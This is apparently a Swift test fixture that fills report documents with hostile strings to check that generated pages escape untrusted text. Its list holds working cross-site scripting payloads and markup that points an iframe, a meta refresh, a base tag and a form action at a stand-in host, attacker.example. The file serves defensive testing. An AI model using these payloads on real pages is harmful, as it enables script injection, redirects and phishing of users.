import Applying
import Directory
import Planning

@testable import Reporting

/// Names that would be markup, a script or an attribute in a page that does not escape them. Each that runs says so in
/// `window.pwned`.
enum HostileMarkup {
    static let all = [
        "<script>window.pwned=1</script>",
        "</script><script>window.pwned=1</script>",
        "</style><img src=x onerror=window.pwned=1>",
        "</title><svg onload=window.pwned=1>",
        "--><!-- x",
        "\" onmouseover=\"window.pwned=1\" autofocus onfocus=\"window.pwned=1",
        "' onclick='window.pwned=1' style='display:none",
        "`onload=window.pwned=1`",
        "javascript:window.pwned=1",
        "<a href=javascript:window.pwned=1>click</a>",
        "<iframe src=http://attacker.example/></iframe>",
        "<meta http-equiv=refresh content=0;url=http://attacker.example/>",
        "<base href=http://attacker.example/><link rel=stylesheet href=x>",
        "</bdi></th></tr></tbody></table><form action=http://attacker.example><button>Approve</button>",
        "&lt;b&gt;&amp;amp;&#60;script&#62;",
        "<![CDATA[<b>]]><?php ?>",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "admin\u{202E}nimda\u{2066}x", "zero\u{200B}width\u{FEFF}", "nul\u{0}bell\u{7}\u{9B}31m",
        "line\nbreak\r\u{2028}",
        "עברית", "日本語 😀", String(repeating: "unbroken", count: 30),
    ]

    /// A document in which every text that may be a stranger's is one of these.
    static func plan(_ texts: [String] = all) -> PlanDocument {
        var first = Samples.hostile(texts)
        first.target = target(texts)
        first.roster = RosterSummary(digest: texts[0], files: texts, commit: texts[1 % texts.count])
        first.snapshot.digest = texts[2 % texts.count]
        first.removalDigest = texts[5 % texts.count]
        first.guards = [
            GuardVerdict(rule: .memberships, limit: 3, found: 24, decision: .withheld),
            GuardVerdict(rule: .users, limit: 3, found: 0, decision: .passed),
        ]
        first.notices.append(Notice(.account, count: 1, text: texts[6 % texts.count]))
        return PlanDocument(version: texts[0], created: texts[5 % texts.count], plans: [first])
    }

    static func result(_ texts: [String] = all) -> ResultDocument {
        let plan = plan(texts).plans[0]
        let statuses = ActionOutcome.Status.allCases
        var result = ApplyResult(plan: plan, outcomes: [])
        for (index, action) in plan.actions.enumerated() {
            let status = statuses[(index / 7) % statuses.count]
            result.outcomes.append(
                ActionOutcome(
                    action: action.id, status: status, error: texts[index % texts.count],
                    blockedBy: index % 2 == 0 ? [] : [plan.actions[0].id]))
        }
        result.verification = Verification(
            checked: 9,
            differences: texts.enumerated().map {
                Verification.Difference(action: plan.actions[$0.offset].id, found: $0.element)
            })
        return ResultDocument(version: texts[0], created: texts[1 % texts.count], results: [result])
    }

    private static func target(_ texts: [String]) -> Target {
        Target(
            account: texts[5 % texts.count], region: texts[0], namespace: texts[6 % texts.count],
            endpoint: texts[8 % texts.count])
    }
}
